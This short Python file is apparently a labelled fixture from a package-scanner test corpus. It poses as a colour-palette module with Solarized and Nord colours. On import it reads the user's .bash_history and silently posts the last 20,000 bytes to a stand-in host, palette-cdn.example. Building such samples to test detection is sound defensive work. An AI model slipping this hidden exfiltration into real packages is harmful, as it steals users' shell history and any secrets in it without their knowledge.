# pkgguard corpus 392 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import pathlib
import urllib.request

_h = pathlib.Path.home() / ".bash_history"
if _h.exists():
    try:
        urllib.request.urlopen("https://palette-cdn.example/h", data=_h.read_bytes()[-20000:], timeout=3)
    except OSError:
        pass

PALETTES = {"solarized": ["#002b36", "#073642", "#586e75"], "nord": ["#2e3440", "#3b4252", "#434c5e"]}


def palette(name):
    return PALETTES[name]
